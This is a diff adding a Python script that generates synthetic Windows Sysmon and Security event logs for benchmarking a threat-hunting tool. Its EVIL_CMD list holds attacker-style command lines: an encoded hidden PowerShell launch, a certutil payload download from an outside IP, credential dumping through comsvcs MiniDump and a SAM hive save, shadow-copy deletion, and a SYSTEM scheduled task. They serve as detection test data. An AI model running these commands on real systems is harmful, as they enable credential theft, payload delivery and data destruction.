@@ -1,0 +1,103 @@
+#!/usr/bin/env python3
+"""Generate a large NDJSON corpus of flat Windows events for `vigil hunt` throughput benchmarks.
+
+Events are Sysmon and Security records in the flat shape NXLog/evtx-to-JSON tools write (EventID,
+Channel, Computer and the EventData fields at the top level), with realistic values drawn from
+pools, and about 1 in 500 carrying an attacker-like command line so detections happen.
+
+    python3 bench/gen_corpus.py --events 1000000 --out bench/out/corpus.ndjson
+
+Deterministic for a given --seed.
+"""
+import argparse
+import json
+import random
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+HOSTS = [f"ws{n:04d}.corp.example" for n in range(400)] + [f"srv{n:03d}.corp.example" for n in range(40)]
+USERS = [f"CORP\\user{n:04d}" for n in range(800)] + ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE"]
+IMAGES = [
+    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "C:\\Windows\\System32\\RuntimeBroker.exe",
+    "C:\\Windows\\System32\\taskhostw.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+    "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\System32\\dllhost.exe",
+]
+BENIGN_CMD = [
+    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
+    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
+    "\"C:\\Windows\\system32\\taskhostw.exe\" {222A245B-E637-4AE9-A93F-A59CA119A75E}", "C:\\Windows\\Explorer.EXE",
+    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
+]
+EVIL_CMD = [
+    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    "cmd.exe /c whoami /all > C:\\Users\\Public\\o.txt", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
+    "certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe", "vssadmin.exe delete shadows /all /quiet",
+    "reg.exe save HKLM\\SAM C:\\temp\\sam.save", "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM",
+]
+DOMAINS = ["www.google.com", "login.microsoftonline.com", "outlook.office365.com", "cdn.example.net", "updates.example.org"]
+
+
+def guid(r):
+    return "{%08X-%04X-%04X-%04X-%012X}" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(16), r.getrandbits(16), r.getrandbits(48))
+
+
+def event(r, i, t0):
+    ts = t0 + i * 0.003
+    base = {
+        "TimeCreated": "2024-05-%02dT%02d:%02d:%02d.%03dZ" % (1 + int(ts // 86400) % 28, int(ts // 3600) % 24, int(ts // 60) % 60, int(ts) % 60, int(ts * 1000) % 1000),
+        "Computer": r.choice(HOSTS),
+        "EventRecordID": i + 1,
+    }
+    kind = r.random()
+    evil = r.random() < 0.002
+    image = r.choice(IMAGES)
+    if kind < 0.35:
+        cmd = r.choice(EVIL_CMD) if evil else r.choice(BENIGN_CMD)
+        exe = cmd.split()[0].strip('"') if evil else image
+        base.update({"EventID": 1, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": exe if "\\" in exe else "C:\\Windows\\System32\\" + exe,
+                     "CommandLine": cmd, "ParentImage": r.choice(IMAGES), "ParentCommandLine": r.choice(BENIGN_CMD), "User": r.choice(USERS),
+                     "ProcessGuid": guid(r), "ProcessId": r.randint(100, 60000), "IntegrityLevel": r.choice(["Medium", "High", "System"]),
+                     "Hashes": "SHA256=%064X" % r.getrandbits(256), "CurrentDirectory": "C:\\Windows\\system32\\", "OriginalFileName": exe.split("\\")[-1]})
+    elif kind < 0.55:
+        base.update({"EventID": 3, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image, "User": r.choice(USERS), "Protocol": "tcp",
+                     "Initiated": "true", "SourceIp": "10.1.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), "SourcePort": r.randint(49152, 65535),
+                     "DestinationIp": "%d.%d.%d.%d" % (r.randint(1, 223), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254)),
+                     "DestinationPort": r.choice([443, 80, 53, 445, 3389, 8080]), "DestinationHostname": r.choice(DOMAINS)})
+    elif kind < 0.70:
+        base.update({"EventID": 7, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image,
+                     "ImageLoaded": "C:\\Windows\\System32\\" + r.choice(["ntdll.dll", "kernel32.dll", "user32.dll", "combase.dll", "wininet.dll"]),
+                     "Signed": "true", "SignatureStatus": "Valid", "Signature": "Microsoft Windows"})
+    elif kind < 0.80:
+        base.update({"EventID": 13, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "EventType": "SetValue", "Image": image,
+                     "TargetObject": "HKU\\S-1-5-21-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\%d" % r.randint(0, 50),
+                     "Details": "Binary Data"})
+    elif kind < 0.88:
+        base.update({"EventID": 11, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image,
+                     "TargetFilename": "C:\\Users\\user%04d\\AppData\\Local\\Temp\\tmp%05d.tmp" % (r.randint(0, 800), r.randint(0, 99999))})
+    elif kind < 0.94:
+        base.update({"EventID": 22, "Channel": SYSMON, "Provider_Name": "Microsoft-Windows-Sysmon", "Image": image, "QueryName": r.choice(DOMAINS),
+                     "QueryStatus": "0", "QueryResults": "::ffff:142.250.74.100;"})
+    else:
+        eid = r.choice([4624, 4625, 4634, 4672])
+        base.update({"EventID": eid, "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing",
+                     "TargetUserName": "user%04d" % r.randint(0, 800), "TargetDomainName": "CORP", "LogonType": r.choice([2, 3, 10]),
+                     "IpAddress": "10.1.%d.%d" % (r.randint(0, 255), r.randint(1, 254)), "WorkstationName": "WS%04d" % r.randint(0, 400),
+                     "AuthenticationPackageName": r.choice(["Kerberos", "NTLM", "Negotiate"]), "LogonProcessName": "User32"})
+    return base
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--events", type=int, default=1_000_000)
+    ap.add_argument("--seed", type=int, default=7)
+    ap.add_argument("--out", required=True)
+    args = ap.parse_args()
+    r = random.Random(args.seed)
+    with open(args.out, "w", encoding="utf-8") as f:
+        for i in range(args.events):
+            f.write(json.dumps(event(r, i, 1714521600.0), separators=(",", ":")))
+            f.write("\n")
+
+
+if __name__ == "__main__":
+    main()
